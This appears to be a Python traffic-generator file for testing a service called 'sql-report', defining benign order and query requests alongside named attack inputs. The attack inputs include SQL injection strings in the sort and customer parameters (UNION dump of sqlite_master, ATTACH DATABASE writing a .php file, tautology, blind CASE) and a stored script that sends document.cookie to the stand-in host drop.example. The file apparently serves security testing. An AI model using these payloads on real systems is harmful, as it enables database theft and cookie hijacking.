# SPDX-License-Identifier: Apache-2.0
"""What clients ask of sql-report, and what attackers do."""

RUNTIME = "python"
HANDLER = "app.handler"


def _order(traffic):
    return {"customer": traffic.person(), "item": traffic.words(1, 3), "day": traffic.date(), "amount": traffic.amount()}


def benign(traffic):
    kind = traffic.random()
    if kind < 0.35:
        return traffic.queue(*([_order(traffic) for _ in range(traffic.randint(1, 6))] for _ in range(traffic.randint(1, 3))))
    if kind < 0.40:
        return traffic.http("GET", "/summary")
    if kind < 0.41:
        return traffic.http("GET", "/export")
    query = {"customer": traffic.person().split()[0] + "%"}
    if traffic.happens(0.5):
        query["sort"] = traffic.choice(["day", "amount", "item", "customer"])
    if traffic.happens(0.3):
        query["since"] = traffic.date()
    if traffic.happens(0.01):
        query["sort"] = "price"
    return traffic.http("GET", "/orders", query)


INPUTS = {
    "union": lambda traffic: traffic.http("GET", "/orders", {"sort": "1) UNION SELECT name, sql, 1, 2 FROM sqlite_master --"}),
    "file": lambda traffic: traffic.http("GET", "/orders", {"sort": "day; ATTACH DATABASE '/tmp/x.php' AS x; --"}),
    "tautology": lambda traffic: traffic.http("GET", "/orders", {"customer": "x' OR '1'='1' --"}),
    "blind": lambda traffic: traffic.http("GET", "/orders", {"sort": "(CASE WHEN (SELECT count(*) FROM sqlite_master)>0 THEN day ELSE amount END)"}),
    "stored script": lambda traffic: traffic.queue([{**_order(traffic), "item": "<script>fetch('//drop.example/'+document.cookie)</script>"}]),
}
